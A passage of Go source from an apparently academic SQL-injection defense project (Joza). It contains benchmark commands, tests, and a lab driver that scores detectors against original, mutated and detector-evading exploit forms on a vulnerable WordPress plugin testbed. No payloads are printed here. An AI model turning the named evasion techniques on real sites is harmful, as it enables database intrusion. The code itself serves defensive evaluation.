	if report.Table5 != nil || len(report.Figure7) != 0 || report.GuardMetrics != nil {
		t.Fatal("sections that did not run must be omitted")
	}
}
