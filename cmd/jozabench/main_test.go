package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

func TestRunSmall(t *testing.T) {
	if err := run([]string{"-table", "6", "-requests", "10", "-urls", "20"}); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-figure", "8", "-requests", "10", "-urls", "20"}); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-transport", "-pool", "2", "-requests", "10", "-urls", "20"}); err != nil {
		t.Fatal(err)
	}
}

func TestRunBadFlags(t *testing.T) {
	if err := run([]string{"-bogus"}); err == nil {
		t.Error("bad flag must error")
	}
}

// TestJSONReport runs two sections with -json and checks the report file
// carries exactly the sections that ran, with the run parameters.
func TestJSONReport(t *testing.T) {
	path := filepath.Join(t.TempDir(), "bench.json")
	err := run([]string{"-table", "6", "-transport", "-pool", "2",
		"-requests", "10", "-urls", "20", "-seed", "7", "-json", path})
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var report benchReport
	if err := json.Unmarshal(data, &report); err != nil {
		t.Fatalf("report not JSON: %v", err)
	}
	if report.GoVersion == "" || report.GeneratedAt == "" {
		t.Fatalf("missing run metadata: %+v", report)
	}
	if report.URLs != 20 || report.Requests != 10 || report.Seed != 7 {
		t.Fatalf("run parameters not recorded: %+v", report)
	}
	if len(report.Table6) == 0 {
		t.Fatal("table6 section missing")
	}
	if report.Transport == nil || report.Transport.Workers != 2 || report.Transport.PoolQPS <= 0 {
		t.Fatalf("transport section = %+v", report.Transport)
	}
	if report.Table5 != nil || len(report.Figure7) != 0 || report.GuardMetrics != nil {
		t.Fatal("sections that did not run must be omitted")
	}
}
