package main

import "testing"

func TestRunSmall(t *testing.T) {
	if err := run([]string{"-table", "6", "-requests", "10", "-urls", "20"}); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-figure", "8", "-requests", "10", "-urls", "20"}); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-transport", "-pool", "2", "-requests", "10", "-urls", "20"}); err != nil {
		t.Fatal(err)
	}
}

func TestRunBadFlags(t *testing.T) {
	if err := run([]string{"-bogus"}); err == nil {
		t.Error("bad flag must error")
	}
}
