// Command jozabench drives the performance evaluation of Section VI and
// prints the paper's performance tables and figures:
//
//	jozabench -table 5    # read/write overhead per cache configuration
//	jozabench -table 6    # overall overhead by workload mix
//	jozabench -table 7    # WordPress.com stats and predicted overhead
//	jozabench -figure 7   # PTI breakdown, unoptimized vs optimized daemon
//	jozabench -figure 8   # read/write/search with and without Joza
//	jozabench -all        # everything
package main

import (
	"flag"
	"fmt"
	"log"
	"os"

	"joza/internal/workload"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("jozabench: ")
	if err := run(os.Args[1:]); err != nil {
		log.Fatal(err)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("jozabench", flag.ContinueOnError)
	table := fs.Int("table", 0, "print table 5, 6 or 7")
	figure := fs.Int("figure", 0, "print figure 7 or 8")
	all := fs.Bool("all", false, "run everything")
	urls := fs.Int("urls", 1001, "crawl-space size (unique URLs)")
	requests := fs.Int("requests", 400, "requests per measurement")
	seed := fs.Int64("seed", 42, "workload generator seed")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if !*all && *table == 0 && *figure == 0 {
		*all = true
	}

	site, err := workload.NewSite(*urls, *seed)
	if err != nil {
		return err
	}
	fmt.Printf("site: %d URLs, %d trusted fragments, %d requests per run\n\n",
		site.NumURLs, site.Fragments.Len(), *requests)

	var readOvh, writeOvh float64
	if *all || *table == 5 || *table == 7 {
		res, err := workload.RunTable5(site, *requests)
		if err != nil {
			return err
		}
		if *all || *table == 5 {
			fmt.Println(res.Format())
		}
		// The query+structure daemon row feeds Table VII's prediction.
		for _, row := range res.Rows {
			if row.Config == "PTI daemon, query+structure cache" {
				readOvh, writeOvh = row.ReadOverhead, row.WriteOverhead
			}
		}
	}
	if *all || *table == 6 {
		rows, err := workload.RunTable6(site, *requests)
		if err != nil {
			return err
		}
		fmt.Print(workload.FormatTable6(rows))
		fmt.Println(workload.SparklineTable6(rows))
	}
	if *all || *table == 7 {
		stats := workload.DefaultWordPressStats()
		fmt.Println(workload.FormatTable7(stats, readOvh, writeOvh))
	}
	if *all || *figure == 7 {
		bars, err := workload.RunFigure7(site, *requests)
		if err != nil {
			return err
		}
		fmt.Print(workload.FormatFigure7(bars))
		fmt.Println(workload.ChartFigure7(bars))
	}
	if *all || *figure == 8 {
		rows, err := workload.RunFigure8(site, *requests)
		if err != nil {
			return err
		}
		fmt.Print(workload.FormatFigure8(rows))
		fmt.Println(workload.ChartFigure8(rows))
	}
	return nil
}
