// Command jozabench drives the performance evaluation of Section VI and
// prints the paper's performance tables and figures:
//
//	jozabench -table 5    # read/write overhead per cache configuration
//	jozabench -table 6    # overall overhead by workload mix
//	jozabench -table 7    # WordPress.com stats and predicted overhead
//	jozabench -figure 7   # PTI breakdown, unoptimized vs optimized daemon
//	jozabench -figure 8   # read/write/search with and without Joza
//	jozabench -metrics    # run the mix through one Guard, print its counters
//	jozabench -transport  # single daemon connection vs connection pool
//	jozabench -nti        # NTI matcher before/after (Sellers vs bit-parallel+prefilter)
//	jozabench -lex        # per-dialect lexer cost; asserts the cache-hit path is zero-alloc
//	jozabench -scale      # wire batch-size sweep and 1/2/4-shard fleet sweep
//	jozabench -all        # everything
//	jozabench -all -json bench.json   # also write results as JSON
//	jozabench -diff old.json new.json # compare two -json reports (warn-only)
//
// The -json report carries every section the invocation ran plus the run
// parameters and Go version, so CI can archive one machine-readable
// artifact per commit and diff benchmark results across commits. -diff
// compares the matcher-relevant fields of two such reports and emits
// GitHub warning annotations on >20% regressions without ever failing.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"net"
	"os"
	"runtime"
	"sync"
	"time"

	"joza"
	"joza/internal/daemon"
	"joza/internal/pti"
	"joza/internal/workload"
)

// benchReport is the -json output: one section per benchmark the
// invocation ran, omitted when not run.
type benchReport struct {
	GeneratedAt string `json:"generatedAt"`
	GoVersion   string `json:"goVersion"`
	NumCPU      int    `json:"numCpu"`
	URLs        int    `json:"urls"`
	Requests    int    `json:"requests"`
	Seed        int64  `json:"seed"`

	Table5       *workload.Table5Result `json:"table5,omitempty"`
	Table6       []workload.Table6Row   `json:"table6,omitempty"`
	Figure7      []workload.Figure7Bar  `json:"figure7,omitempty"`
	Figure8      []workload.Figure8Row  `json:"figure8,omitempty"`
	Transport    *transportResult       `json:"transport,omitempty"`
	GuardMetrics *joza.Metrics          `json:"guardMetrics,omitempty"`
	NTIBench     *ntiBenchResult        `json:"ntiBench,omitempty"`
	LexBench     *lexBenchResult        `json:"lexBench,omitempty"`
	Scale        *scaleResult           `json:"scale,omitempty"`
}

// transportResult is the measured outcome of the transport comparison.
type transportResult struct {
	Workers       int     `json:"workers"`
	Queries       int     `json:"queries"`
	SingleQPS     float64 `json:"singleQps"`
	PoolQPS       float64 `json:"poolQps"`
	PoolSpeedup   float64 `json:"poolSpeedup"`
	SingleSeconds float64 `json:"singleSeconds"`
	PoolSeconds   float64 `json:"poolSeconds"`
}

func main() {
	log.SetFlags(0)
	log.SetPrefix("jozabench: ")
	if err := run(os.Args[1:]); err != nil {
		log.Fatal(err)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("jozabench", flag.ContinueOnError)
	table := fs.Int("table", 0, "print table 5, 6 or 7")
	figure := fs.Int("figure", 0, "print figure 7 or 8")
	showMetrics := fs.Bool("metrics", false, "run the mixed workload through one Guard and print joza.Metrics")
	transport := fs.Bool("transport", false, "compare one shared daemon connection against a connection pool under concurrency")
	poolSize := fs.Int("pool", 8, "with -transport: pool size and worker count")
	ntiBench := fs.Bool("nti", false, "benchmark the NTI matcher before/after the bit-parallel engine and prefilter")
	lexBench := fs.Bool("lex", false, "benchmark the dialect-dispatched lexer and assert the cached analyze fast path stays zero-alloc")
	scale := fs.Bool("scale", false, "sweep wire batch sizes and 1/2/4-shard fleets")
	rtt := fs.Duration("rtt", 3*time.Millisecond, "with -scale: simulated per-frame network RTT for the shard sweep (0 disables)")
	diff := fs.String("diff", "", "compare this previous -json report against a second report given as a positional argument; warn-only")
	all := fs.Bool("all", false, "run everything")
	urls := fs.Int("urls", 1001, "crawl-space size (unique URLs)")
	requests := fs.Int("requests", 400, "requests per measurement")
	seed := fs.Int64("seed", 42, "workload generator seed")
	jsonPath := fs.String("json", "", "also write the results of this run as JSON to this file")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *diff != "" {
		if fs.NArg() != 1 {
			return fmt.Errorf("-diff wants exactly one positional argument (the new report), got %d", fs.NArg())
		}
		return runDiff(*diff, fs.Arg(0))
	}
	if !*all && *table == 0 && *figure == 0 && !*showMetrics && !*transport && !*ntiBench && !*lexBench && !*scale {
		*all = true
	}

	site, err := workload.NewSite(*urls, *seed)
	if err != nil {
		return err
	}
	fmt.Printf("site: %d URLs, %d trusted fragments, %d requests per run\n\n",
		site.NumURLs, site.Fragments.Len(), *requests)

	report := benchReport{
		GeneratedAt: time.Now().UTC().Format(time.RFC3339),
		GoVersion:   runtime.Version(),
		NumCPU:      runtime.NumCPU(),
		URLs:        *urls,
		Requests:    *requests,
		Seed:        *seed,
	}

	var readOvh, writeOvh float64
	if *all || *table == 5 || *table == 7 {
		res, err := workload.RunTable5(site, *requests)
		if err != nil {
			return err
		}
		if *all || *table == 5 {
			fmt.Println(res.Format())
			report.Table5 = res
		}
		// The query+structure daemon row feeds Table VII's prediction.
		for _, row := range res.Rows {
			if row.Config == "PTI daemon, query+structure cache" {
				readOvh, writeOvh = row.ReadOverhead, row.WriteOverhead
			}
		}
	}
	if *all || *table == 6 {
		rows, err := workload.RunTable6(site, *requests)
		if err != nil {
			return err
		}
		fmt.Print(workload.FormatTable6(rows))
		fmt.Println(workload.SparklineTable6(rows))
		report.Table6 = rows
	}
	if *all || *table == 7 {
		stats := workload.DefaultWordPressStats()
		fmt.Println(workload.FormatTable7(stats, readOvh, writeOvh))
	}
	if *all || *figure == 7 {
		bars, err := workload.RunFigure7(site, *requests)
		if err != nil {
			return err
		}
		fmt.Print(workload.FormatFigure7(bars))
		fmt.Println(workload.ChartFigure7(bars))
		report.Figure7 = bars
	}
	if *all || *figure == 8 {
		rows, err := workload.RunFigure8(site, *requests)
		if err != nil {
			return err
		}
		fmt.Print(workload.FormatFigure8(rows))
		fmt.Println(workload.ChartFigure8(rows))
		report.Figure8 = rows
	}
	if *all || *showMetrics {
		snap, err := runGuardMetrics(site, *requests)
		if err != nil {
			return err
		}
		report.GuardMetrics = snap
	}
	if *all || *transport {
		tr, err := runTransportBench(site, *requests, *poolSize)
		if err != nil {
			return err
		}
		report.Transport = tr
	}
	if *all || *ntiBench {
		nb, err := runNTIBench(*requests, *seed)
		if err != nil {
			return err
		}
		report.NTIBench = nb
	}
	if *all || *lexBench {
		lb, err := runLexBench(*requests)
		if err != nil {
			return err
		}
		report.LexBench = lb
	}
	if *all || *scale {
		sc, err := runScaleBench(site, *requests, *poolSize*2, *rtt)
		if err != nil {
			return err
		}
		report.Scale = sc
	}
	if *jsonPath != "" {
		data, err := json.MarshalIndent(report, "", "  ")
		if err != nil {
			return err
		}
		if err := os.WriteFile(*jsonPath, append(data, '\n'), 0o644); err != nil {
			return err
		}
		log.Printf("wrote %s", *jsonPath)
	}
	return nil
}

// runTransportBench drives the same query stream through a TCP daemon
// twice — once over a single shared connection (every request serializes
// on its mutex), once over a connection pool of the same width as the
// worker count — and prints the throughput of each. This is the remote
// deployment's scaling story: the analysis is microseconds, so the
// transport's head-of-line blocking dominates under concurrency.
func runTransportBench(site *workload.Site, requests, workers int) (*transportResult, error) {
	if workers < 1 {
		workers = 1
	}
	analyzer := pti.NewCached(pti.New(site.Fragments), pti.CacheQueryAndStructure, 8192)
	srv := daemon.NewServer(analyzer)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	go func() { _ = srv.Serve(ln) }()
	defer srv.Close()

	var queries []string
	for _, req := range site.GenerateMix(workload.Mix{WriteFraction: 0.04}, requests) {
		for _, ev := range req.Events {
			queries = append(queries, ev.Query)
		}
	}

	drive := func(t daemon.Transport) (time.Duration, error) {
		errs := make(chan error, workers)
		var wg sync.WaitGroup
		start := time.Now()
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func(w int) {
				defer wg.Done()
				for i := w; i < len(queries); i += workers {
					if _, err := t.Analyze(queries[i]); err != nil {
						errs <- err
						return
					}
				}
			}(w)
		}
		wg.Wait()
		elapsed := time.Since(start)
		close(errs)
		return elapsed, <-errs
	}

	single, err := daemon.Dial(ln.Addr().String())
	if err != nil {
		return nil, err
	}
	defer single.Close()
	singleTime, err := drive(single)
	if err != nil {
		return nil, err
	}
	pool := daemon.DialPool(ln.Addr().String(), daemon.PoolConfig{Size: workers})
	defer pool.Close()
	poolTime, err := drive(pool)
	if err != nil {
		return nil, err
	}

	ops := float64(len(queries))
	fmt.Printf("daemon transport, %d workers, %d queries:\n", workers, len(queries))
	fmt.Printf("  single connection: %8.0f q/s (%v)\n", ops/singleTime.Seconds(), singleTime.Round(time.Millisecond))
	fmt.Printf("  pool (size %2d):    %8.0f q/s (%v)  %.1fx\n",
		workers, ops/poolTime.Seconds(), poolTime.Round(time.Millisecond),
		singleTime.Seconds()/poolTime.Seconds())
	return &transportResult{
		Workers:       workers,
		Queries:       len(queries),
		SingleQPS:     ops / singleTime.Seconds(),
		PoolQPS:       ops / poolTime.Seconds(),
		PoolSpeedup:   singleTime.Seconds() / poolTime.Seconds(),
		SingleSeconds: singleTime.Seconds(),
		PoolSeconds:   poolTime.Seconds(),
	}, nil
}

// runGuardMetrics drives the Table VI workload mix through a single
// library-mode Guard and prints its counter snapshot — the operator-facing
// view of the same run the tables time. The snapshot is returned for the
// JSON report.
func runGuardMetrics(site *workload.Site, requests int) (*joza.Metrics, error) {
	guard, err := joza.New(
		joza.WithFragmentSet(site.Fragments),
		joza.WithCacheMode(joza.CacheQueryAndStructure, 8192),
	)
	if err != nil {
		return nil, err
	}
	reqs := site.GenerateMix(workload.Mix{WriteFraction: 0.04}, requests)
	reqs = append(reqs, site.GenerateRequests(workload.Search, requests/20)...)
	for _, req := range reqs {
		for _, ev := range req.Events {
			guard.Check(ev.Query, ev.Inputs)
		}
	}
	fmt.Println("guard metrics (read/write/search mix, query+structure cache):")
	snap := guard.Metrics()
	fmt.Println(snap.Format())
	return &snap, nil
}
