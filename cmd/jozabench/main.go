// Command jozabench drives the performance evaluation of Section VI and
// prints the paper's performance tables and figures:
//
//	jozabench -table 5    # read/write overhead per cache configuration
//	jozabench -table 6    # overall overhead by workload mix
//	jozabench -table 7    # WordPress.com stats and predicted overhead
//	jozabench -figure 7   # PTI breakdown, unoptimized vs optimized daemon
//	jozabench -figure 8   # read/write/search with and without Joza
//	jozabench -metrics    # run the mix through one Guard, print its counters
//	jozabench -transport  # single daemon connection vs connection pool
//	jozabench -all        # everything
package main

import (
	"flag"
	"fmt"
	"log"
	"net"
	"os"
	"sync"
	"time"

	"joza"
	"joza/internal/daemon"
	"joza/internal/pti"
	"joza/internal/workload"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("jozabench: ")
	if err := run(os.Args[1:]); err != nil {
		log.Fatal(err)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("jozabench", flag.ContinueOnError)
	table := fs.Int("table", 0, "print table 5, 6 or 7")
	figure := fs.Int("figure", 0, "print figure 7 or 8")
	showMetrics := fs.Bool("metrics", false, "run the mixed workload through one Guard and print joza.Metrics")
	transport := fs.Bool("transport", false, "compare one shared daemon connection against a connection pool under concurrency")
	poolSize := fs.Int("pool", 8, "with -transport: pool size and worker count")
	all := fs.Bool("all", false, "run everything")
	urls := fs.Int("urls", 1001, "crawl-space size (unique URLs)")
	requests := fs.Int("requests", 400, "requests per measurement")
	seed := fs.Int64("seed", 42, "workload generator seed")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if !*all && *table == 0 && *figure == 0 && !*showMetrics && !*transport {
		*all = true
	}

	site, err := workload.NewSite(*urls, *seed)
	if err != nil {
		return err
	}
	fmt.Printf("site: %d URLs, %d trusted fragments, %d requests per run\n\n",
		site.NumURLs, site.Fragments.Len(), *requests)

	var readOvh, writeOvh float64
	if *all || *table == 5 || *table == 7 {
		res, err := workload.RunTable5(site, *requests)
		if err != nil {
			return err
		}
		if *all || *table == 5 {
			fmt.Println(res.Format())
		}
		// The query+structure daemon row feeds Table VII's prediction.
		for _, row := range res.Rows {
			if row.Config == "PTI daemon, query+structure cache" {
				readOvh, writeOvh = row.ReadOverhead, row.WriteOverhead
			}
		}
	}
	if *all || *table == 6 {
		rows, err := workload.RunTable6(site, *requests)
		if err != nil {
			return err
		}
		fmt.Print(workload.FormatTable6(rows))
		fmt.Println(workload.SparklineTable6(rows))
	}
	if *all || *table == 7 {
		stats := workload.DefaultWordPressStats()
		fmt.Println(workload.FormatTable7(stats, readOvh, writeOvh))
	}
	if *all || *figure == 7 {
		bars, err := workload.RunFigure7(site, *requests)
		if err != nil {
			return err
		}
		fmt.Print(workload.FormatFigure7(bars))
		fmt.Println(workload.ChartFigure7(bars))
	}
	if *all || *figure == 8 {
		rows, err := workload.RunFigure8(site, *requests)
		if err != nil {
			return err
		}
		fmt.Print(workload.FormatFigure8(rows))
		fmt.Println(workload.ChartFigure8(rows))
	}
	if *all || *showMetrics {
		if err := printGuardMetrics(site, *requests); err != nil {
			return err
		}
	}
	if *all || *transport {
		if err := runTransportBench(site, *requests, *poolSize); err != nil {
			return err
		}
	}
	return nil
}

// runTransportBench drives the same query stream through a TCP daemon
// twice — once over a single shared connection (every request serializes
// on its mutex), once over a connection pool of the same width as the
// worker count — and prints the throughput of each. This is the remote
// deployment's scaling story: the analysis is microseconds, so the
// transport's head-of-line blocking dominates under concurrency.
func runTransportBench(site *workload.Site, requests, workers int) error {
	if workers < 1 {
		workers = 1
	}
	analyzer := pti.NewCached(pti.New(site.Fragments), pti.CacheQueryAndStructure, 8192)
	srv := daemon.NewServer(analyzer)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	go func() { _ = srv.Serve(ln) }()
	defer srv.Close()

	var queries []string
	for _, req := range site.GenerateMix(workload.Mix{WriteFraction: 0.04}, requests) {
		for _, ev := range req.Events {
			queries = append(queries, ev.Query)
		}
	}

	drive := func(t daemon.Transport) (time.Duration, error) {
		errs := make(chan error, workers)
		var wg sync.WaitGroup
		start := time.Now()
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func(w int) {
				defer wg.Done()
				for i := w; i < len(queries); i += workers {
					if _, err := t.Analyze(queries[i]); err != nil {
						errs <- err
						return
					}
				}
			}(w)
		}
		wg.Wait()
		elapsed := time.Since(start)
		close(errs)
		return elapsed, <-errs
	}

	single, err := daemon.Dial(ln.Addr().String())
	if err != nil {
		return err
	}
	defer single.Close()
	singleTime, err := drive(single)
	if err != nil {
		return err
	}
	pool := daemon.DialPool(ln.Addr().String(), daemon.PoolConfig{Size: workers})
	defer pool.Close()
	poolTime, err := drive(pool)
	if err != nil {
		return err
	}

	ops := float64(len(queries))
	fmt.Printf("daemon transport, %d workers, %d queries:\n", workers, len(queries))
	fmt.Printf("  single connection: %8.0f q/s (%v)\n", ops/singleTime.Seconds(), singleTime.Round(time.Millisecond))
	fmt.Printf("  pool (size %2d):    %8.0f q/s (%v)  %.1fx\n",
		workers, ops/poolTime.Seconds(), poolTime.Round(time.Millisecond),
		singleTime.Seconds()/poolTime.Seconds())
	return nil
}

// printGuardMetrics drives the Table VI workload mix through a single
// library-mode Guard and prints its counter snapshot — the operator-facing
// view of the same run the tables time.
func printGuardMetrics(site *workload.Site, requests int) error {
	guard, err := joza.New(
		joza.WithFragmentSet(site.Fragments),
		joza.WithCacheMode(joza.CacheQueryAndStructure, 8192),
	)
	if err != nil {
		return err
	}
	reqs := site.GenerateMix(workload.Mix{WriteFraction: 0.04}, requests)
	reqs = append(reqs, site.GenerateRequests(workload.Search, requests/20)...)
	for _, req := range reqs {
		for _, ev := range req.Events {
			guard.Check(ev.Query, ev.Inputs)
		}
	}
	fmt.Println("guard metrics (read/write/search mix, query+structure cache):")
	fmt.Println(guard.Metrics().Format())
	return nil
}
