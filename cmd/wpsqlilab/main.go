// Command wpsqlilab drives the WP-SQLI-LAB security evaluation and prints
// the paper's security tables and figures:
//
//	wpsqlilab -table 1    # testbed attack-type classification
//	wpsqlilab -table 2    # baseline NTI/PTI effectiveness (+ SQLMap corpus)
//	wpsqlilab -table 3    # sample trusted fragments
//	wpsqlilab -table 4    # per-plugin original/mutated detection matrix
//	wpsqlilab -figure 6   # the four exploit forms on one plugin
//	wpsqlilab -cases      # Drupal / Joomla / osCommerce case studies
//	wpsqlilab -sweep      # NTI threshold-sensitivity study
//	wpsqlilab -fp         # false-positive crawl of the protected app
//	wpsqlilab -baselines  # compare against WAF / CANDID-style detectors
//	wpsqlilab -matrix     # train profiles, run the per-technique detection matrix
//	wpsqlilab -dialect-evasion  # payloads a MySQL-dialect guard misses on Postgres
//	wpsqlilab -all        # everything
//	wpsqlilab -serve :8080  # serve the protected testbed over HTTP
//
// The detection matrix supports CI gating: -matrix-json writes the sweep
// as a JSON artifact, -matrix-profiles persists the trained profile
// store, and -matrix-golden compares against a checked-in baseline,
// exiting nonzero on any regression (improvements only warn).
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"net/http"
	"os"
	"strings"

	"joza/internal/sqlgen"
	"joza/internal/testbed"
	"joza/internal/webapp"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("wpsqlilab: ")
	if err := run(os.Args[1:]); err != nil {
		log.Fatal(err)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("wpsqlilab", flag.ContinueOnError)
	table := fs.Int("table", 0, "print table 1, 2, 3 or 4")
	figure := fs.Int("figure", 0, "print figure 6")
	cases := fs.Bool("cases", false, "run the case studies")
	sweep := fs.Bool("sweep", false, "run the NTI threshold-sensitivity study")
	fp := fs.Bool("fp", false, "run the false-positive study")
	baselines := fs.Bool("baselines", false, "run the related-work baseline comparison")
	matrix := fs.Bool("matrix", false, "train profiles and run the per-technique detection matrix")
	dialectEvasion := fs.Bool("dialect-evasion", false, "run the dialect-evasion sweep: payloads missed under the MySQL dialect, caught under Postgres")
	matrixJSON := fs.String("matrix-json", "", "write the detection matrix as JSON to this path")
	matrixGolden := fs.String("matrix-golden", "", "compare the detection matrix against this golden baseline; exit nonzero on regression")
	matrixProfiles := fs.String("matrix-profiles", "", "write the trained profile store to this path")
	serve := fs.String("serve", "", "serve the protected testbed over HTTP at this address")
	all := fs.Bool("all", false, "run everything")
	perPlugin := fs.Int("sqlmap-payloads", 40, "generated payloads per plugin for table 2")
	fig6Plugin := fs.String("figure6-plugin", "eventify", "plugin used for figure 6")
	if err := fs.Parse(args); err != nil {
		return err
	}
	wantMatrix := *matrix || *matrixJSON != "" || *matrixGolden != "" || *matrixProfiles != ""
	if !*all && *table == 0 && *figure == 0 && !*cases && !*sweep && !*fp && !*baselines && !wantMatrix && !*dialectEvasion && *serve == "" {
		*all = true
	}

	lab, err := testbed.NewLab()
	if err != nil {
		return err
	}

	if *all || *table == 1 {
		printTable1(lab)
	}
	if *all || *table == 2 {
		if err := printTable2(lab, *perPlugin); err != nil {
			return err
		}
	}
	if *all || *table == 3 {
		printTable3(lab)
	}
	if *all || *table == 4 {
		if err := printTable4(lab); err != nil {
			return err
		}
	}
	if *all || *figure == 6 {
		if err := printFigure6(lab, *fig6Plugin); err != nil {
			return err
		}
	}
	if *all || *cases {
		if err := printCases(); err != nil {
			return err
		}
	}
	if *all || *sweep {
		rows, err := lab.ThresholdSweep([]float64{0.05, 0.10, 0.20, 0.30, 0.40, 0.50})
		if err != nil {
			return err
		}
		fmt.Println(testbed.FormatSweep(rows))
	}
	if *all || *fp {
		res, err := lab.FalsePositiveStudy(40, 1)
		if err != nil {
			return err
		}
		fmt.Printf("FALSE-POSITIVE STUDY: %d benign requests across %d plugins: %d blocked, %d db errors\n\n",
			res.Requests, len(lab.Specs), res.Blocked, res.DBErrors)
	}
	if *all || *baselines {
		rows, err := lab.EvaluateBaselines()
		if err != nil {
			return err
		}
		fmt.Println(testbed.FormatBaselines(rows))
	}
	if *all || wantMatrix {
		if err := runMatrix(lab, *matrixJSON, *matrixGolden, *matrixProfiles); err != nil {
			return err
		}
	}
	if *all || *dialectEvasion {
		res, err := lab.EvaluateDialectEvasion()
		if err != nil {
			return err
		}
		fmt.Println(testbed.FormatDialectEvasion(res))
	}
	if *serve != "" {
		log.Printf("serving the Joza-protected testbed on %s (try /%s?%s=1)",
			*serve, lab.Specs[0].Name, lab.Specs[0].Param)
		return http.ListenAndServe(*serve, webapp.HTTPHandler(lab.Protected))
	}
	return nil
}

func printTable1(lab *testbed.Lab) {
	counts := testbed.TypeCounts(lab.Specs)
	fmt.Println("TABLE I: Classification of WP-SQLI-LAB attack types")
	fmt.Printf("%-16s %s\n", "Attack Type", "No. of Plugins")
	for _, typ := range []sqlgen.AttackType{
		sqlgen.Union, sqlgen.StandardBlind, sqlgen.DoubleBlind, sqlgen.Tautology,
	} {
		fmt.Printf("%-16s %d\n", typ, counts[typ])
	}
	fmt.Println()
}

func printTable2(lab *testbed.Lab, perPlugin int) error {
	res, err := lab.EvaluateBaseline(perPlugin)
	if err != nil {
		return err
	}
	fmt.Println("TABLE II: Baseline effectiveness of NTI and PTI")
	fmt.Printf("%-24s %10s %10s\n", "Exploits", "NTI", "PTI")
	fmt.Printf("%-24s %7d/%-3d %6d/%-3d\n", "Testbed",
		res.NTIDetected, res.Total, res.PTIDetected, res.Total)
	fmt.Printf("%-24s %7d/%-3d %6d/%-3d\n", "Generated by SQLMap-like",
		res.SQLMapNTI, res.SQLMapTotal, res.SQLMapPTI, res.SQLMapTotal)
	fmt.Println()
	return nil
}

func printTable3(lab *testbed.Lab) {
	fmt.Println("TABLE III: Sample fragments extracted from the application corpus")
	for _, f := range lab.Fragments.Sample(16) {
		fmt.Printf("  %q\n", f)
	}
	fmt.Printf("(total fragments: %d)\n\n", lab.Fragments.Len())
}

func yn(b bool) string {
	if b {
		return "Yes"
	}
	return "No"
}

func printTable4(lab *testbed.Lab) error {
	outcomes, err := lab.Evaluate()
	if err != nil {
		return err
	}
	fmt.Println("TABLE IV: Joza effectiveness on original and mutated exploits")
	fmt.Printf("%-30s %-8s %-14s %-15s %8s %8s %8s %8s %6s\n",
		"Plugin", "Version", "Ref", "Type", "NTI-orig", "NTI-mut", "PTI-orig", "PTI-mut", "Joza")
	for _, o := range outcomes {
		s := o.Spec
		fmt.Printf("%-30s %-8s %-14s %-15s %8s %8s %8s %8s %6s\n",
			s.Name, s.Version, s.Ref, s.Type,
			yn(o.NTIOriginal), yn(o.NTIMutated), yn(o.PTIOriginal), yn(o.PTIMutated), yn(o.Joza))
	}
	var adapted int
	for _, o := range outcomes {
		if o.PTIAdapted {
			adapted++
		}
	}
	fmt.Printf("(Taintless adapted %d/%d exploits to evade PTI; Joza detected every working form)\n\n",
		adapted, len(outcomes))
	return nil
}

func printFigure6(lab *testbed.Lab, plugin string) error {
	fig, err := lab.EvaluateFigure6(plugin)
	if err != nil {
		return err
	}
	fmt.Printf("FIGURE 6: exploit forms for plugin %s\n", fig.Plugin)
	forms := []struct{ label, payload string }{
		{"A original", fig.Original},
		{"B PTI-evading (Taintless)", fig.PTIEvade},
		{"C NTI-evading (quote stuffing)", fig.NTIEvade},
		{"D combined", fig.Combined},
	}
	keys := []string{"original", "pti-evade", "nti-evade", "combined"}
	for i, f := range forms {
		d := fig.Detected[keys[i]]
		fmt.Printf("  %-32s NTI=%-3s PTI=%-3s Joza=%-3s payload=%q\n",
			f.label, yn(d["NTI"]), yn(d["PTI"]), yn(d["Joza"]), truncate(f.payload, 64))
	}
	fmt.Println()
	return nil
}

func printCases() error {
	outcomes, err := testbed.EvaluateCases()
	if err != nil {
		return err
	}
	fmt.Println("CASE STUDIES: Drupal, Joomla, osCommerce")
	fmt.Printf("%-12s %-10s %-16s %6s %5s %5s %6s\n",
		"Application", "Version", "Ref", "Works", "NTI", "PTI", "Joza")
	for _, o := range outcomes {
		fmt.Printf("%-12s %-10s %-16s %6s %5s %5s %6s\n",
			o.Case.Name, o.Case.Version, o.Case.Ref,
			yn(o.Works), yn(o.NTI), yn(o.PTI), yn(o.Joza))
	}
	fmt.Println()
	return nil
}

// runMatrix trains profiles, runs the detection-matrix sweep, writes the
// requested artifacts and gates against a golden baseline when given one.
func runMatrix(lab *testbed.Lab, jsonPath, goldenPath, profilesPath string) error {
	m, err := lab.EvaluateMatrix()
	if err != nil {
		return err
	}
	fmt.Println(testbed.FormatMatrix(m))
	if jsonPath != "" {
		data, err := testbed.MatrixJSON(m)
		if err != nil {
			return err
		}
		if err := os.WriteFile(jsonPath, append(data, '\n'), 0o644); err != nil {
			return fmt.Errorf("write matrix JSON: %w", err)
		}
		log.Printf("detection matrix written to %s", jsonPath)
	}
	if profilesPath != "" {
		if err := os.WriteFile(profilesPath, m.Store.Bytes(), 0o644); err != nil {
			return fmt.Errorf("write trained profiles: %w", err)
		}
		log.Printf("trained profile store written to %s: %d sites, %d skeletons",
			profilesPath, m.ProfileSites, m.ProfileSkeletons)
	}
	if goldenPath != "" {
		data, err := os.ReadFile(goldenPath)
		if err != nil {
			return fmt.Errorf("read golden baseline: %w", err)
		}
		var golden testbed.DetectionMatrix
		if err := json.Unmarshal(data, &golden); err != nil {
